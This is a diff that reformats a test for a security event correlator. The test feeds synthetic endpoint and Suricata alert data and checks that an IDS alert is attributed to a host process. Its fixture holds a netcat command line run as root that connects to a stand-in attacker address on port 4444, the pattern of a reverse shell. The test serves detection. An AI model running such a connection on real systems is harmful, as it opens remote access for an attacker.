@@ -49,24 +49,74 @@ test('endpoint events and a shipped Suricata alert become an attributed alert on
   const codec = defaultCodec();
   const web = host('web-1', ['10.1.2.3']);
   const now = Date.now();
-  const nc = { pid: 31337, name: 'nc', executable: '/usr/bin/nc.openbsd', command_line: 'nc 203.0.113.5 4444', hash: { sha256: 'ef'.repeat(32) }, user: { id: '0', name: 'root' } };
-  await bus.producer().send(TOPICS.enriched, [
-    processEvent({ host: web, time: now - 2_000, process: nc, user: { id: '0', name: 'root' } }),
-    socketRow({ host: web, time: now - 1_000, pid: 31337, localIp: '10.1.2.3', localPort: 51000, remoteIp: '203.0.113.5', remotePort: 4444 }),
-  ].map((e) => ({ key: 'web-1', value: codec.encode('enriched_event', e) })));
+  const nc = {
+    pid: 31337,
+    name: 'nc',
+    executable: '/usr/bin/nc.openbsd',
+    command_line: 'nc 203.0.113.5 4444',
+    hash: { sha256: 'ef'.repeat(32) },
+    user: { id: '0', name: 'root' },
+  };
+  await bus.producer().send(
+    TOPICS.enriched,
+    [
+      processEvent({ host: web, time: now - 2_000, process: nc, user: { id: '0', name: 'root' } }),
+      socketRow({
+        host: web,
+        time: now - 1_000,
+        pid: 31337,
+        localIp: '10.1.2.3',
+        localPort: 51000,
+        remoteIp: '203.0.113.5',
+        remotePort: 4444,
+      }),
+    ].map((e) => ({ key: 'web-1', value: codec.encode('enriched_event', e) })),
+  );
 
   const eve = join(dir, 'eve.json');
-  writeFileSync(eve, `${JSON.stringify({
-    timestamp: new Date(now).toISOString(), flow_id: 42, event_type: 'alert', src_ip: '10.1.2.3', src_port: 51000, dest_ip: '203.0.113.5', dest_port: 4444, proto: 'TCP',
-    alert: { action: 'allowed', signature_id: 2100498, signature: 'GPL ATTACK_RESPONSE id check returned root', category: 'Potentially Bad Traffic', severity: 2 },
-  })}\nnot json\n`);
-  const shipped = await shipLog({ kind: 'suricata', path: eve, bus, topic: TOPICS.network, sensorName: 'sensor-1', statePath: join(dir, 'ship.json'), follow: false, log: silentLogger() });
+  writeFileSync(
+    eve,
+    `${JSON.stringify({
+      timestamp: new Date(now).toISOString(),
+      flow_id: 42,
+      event_type: 'alert',
+      src_ip: '10.1.2.3',
+      src_port: 51000,
+      dest_ip: '203.0.113.5',
+      dest_port: 4444,
+      proto: 'TCP',
+      alert: {
+        action: 'allowed',
+        signature_id: 2100498,
+        signature: 'GPL ATTACK_RESPONSE id check returned root',
+        category: 'Potentially Bad Traffic',
+        severity: 2,
+      },
+    })}\nnot json\n`,
+  );
+  const shipped = await shipLog({
+    kind: 'suricata',
+    path: eve,
+    bus,
+    topic: TOPICS.network,
+    sensorName: 'sensor-1',
+    statePath: join(dir, 'ship.json'),
+    follow: false,
+    log: silentLogger(),
+  });
   assert.deepEqual(shipped, { shipped: 1, broken: 1 });
 
   const rules = join(dir, 'rules');
   mkdirSync(rules);
-  writeFileSync(join(rules, 'ids.yml'), 'type: ids\nid: osprey-ids-attribution\nname: IDS alert attributed to a host process\n');
-  const config = correlatorConfig.parse({ rules: { builtin: false, dirs: [rules] }, attribution: { maxWaitMs: 1_000 }, tickMs: 50 });
+  writeFileSync(
+    join(rules, 'ids.yml'),
+    'type: ids\nid: osprey-ids-attribution\nname: IDS alert attributed to a host process\n',
+  );
+  const config = correlatorConfig.parse({
+    rules: { builtin: false, dirs: [rules] },
+    attribution: { maxWaitMs: 1_000 },
+    tickMs: 50,
+  });
   const registry = new Registry();
   const running = await startCorrelator({ bus, config, registry, log: silentLogger() });
   stopCorrelator = () => running.stop();
